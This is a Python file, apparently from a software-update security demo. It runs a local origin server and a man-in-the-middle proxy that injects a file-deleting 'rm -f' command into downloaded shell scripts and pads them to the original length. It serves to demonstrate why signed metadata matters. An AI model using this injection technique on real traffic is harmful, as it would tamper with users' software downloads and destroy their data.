#!/usr/bin/env python3
"""The two servers of the man-in-the-middle demo (examples/mitm/run.sh), standard library only.

  mitm.py origin DIR PORTFILE
      A plain HTTP server for DIR on 127.0.0.1 (a free port, written to PORTFILE): the
      publisher's web server.

  mitm.py proxy UPSTREAM PORTFILE VICTIM
      A man in the middle on 127.0.0.1 (a free port, written to PORTFILE) in front of UPSTREAM
      (http://127.0.0.1:PORT). Every response passes through unchanged, except a shell script
      that carries the demo service's marker line: into that one it injects a destructive command
      (deleting the file VICTIM) right after the "#!" line, in place of the comment lines and
      padded so the script keeps its exact length (a length check alone cannot notice), and
      logs it on stderr. Signed TUF metadata passes untouched: rewriting it would break its
      signatures, which every client checks first.

Both log one line per request on stderr. They stop on SIGTERM.
"""

import http.server
import os
import signal
import sys
import urllib.error
import urllib.request

MARKER = b"# trustfs-demo: service entrypoint"


def bind(handler, portfile):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    with open(portfile + ".tmp", "w") as f:
        f.write(str(server.server_address[1]))
    # Renamed into place: a reader never sees a half-written port.
    os.replace(portfile + ".tmp", portfile)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    server.serve_forever()


def origin(directory, portfile):
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, directory=directory, **kwargs)

        def log_message(self, fmt, *args):
            sys.stderr.write("origin: " + (fmt % args) + "\n")

    bind(Quiet, portfile)


def inject(script, payload):
    """`payload` in place of the comment lines after the "#!" line, padded to the same length:
    the result is exactly as long as the original, so a client that checks only the length (or
    the Content-Length) does not notice. Longer payloads are inserted instead."""
    first, _, rest = script.partition(b"\n")
    lines = rest.split(b"\n")
    n = 0
    while n < len(lines) - 1 and lines[n].startswith(b"#"):
        n += 1
    comments = b"\n".join(lines[:n]) + b"\n"
    if n == 0 or len(payload) > len(comments):
        return first + b"\n" + payload + rest
    padded = payload + b"#" * (len(comments) - len(payload) - 1) + b"\n"
    return first + b"\n" + padded + b"\n".join(lines[n:])


def proxy(upstream, portfile, victim):
    payload = (
        'rm -f "%s"   # <- injected in transit by the man in the middle\n' % victim
    ).encode()

    class Mitm(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, fmt, *args):
            sys.stderr.write("mitm: " + (fmt % args) + "\n")

        def do_GET(self):
            if not self.path.startswith("/"):
                self.send_error(400, "origin-form request targets only")
                return
            request = urllib.request.Request(upstream + self.path)
            for name in ("Range", "If-None-Match", "If-Modified-Since"):
                if self.headers.get(name):
                    request.add_header(name, self.headers[name])
            try:
                with urllib.request.urlopen(request, timeout=30) as r:
                    status, headers, body = r.status, r.getheaders(), r.read()
            except urllib.error.HTTPError as e:
                status, headers, body = e.code, e.headers.items(), e.read()
            except OSError as e:
                self.send_error(502, "upstream: %s" % e)
                return
            if status == 200 and MARKER in body and body.startswith(b"#!"):
                body = inject(body, payload)
                sys.stderr.write(
                    "mitm: INJECTED a destructive command into %s (%d bytes, as long as the original)\n"
                    % (self.path, len(body))
                )
            self.send_response(status)
            for name, value in headers:
                if name.lower() not in ("content-length", "connection", "transfer-encoding"):
                    self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    bind(Mitm, portfile)


if __name__ == "__main__":
    if len(sys.argv) == 4 and sys.argv[1] == "origin":
        origin(sys.argv[2], sys.argv[3])
    elif len(sys.argv) == 5 and sys.argv[1] == "proxy":
        proxy(sys.argv[2], sys.argv[3], sys.argv[4])
    else:
        sys.exit(__doc__)
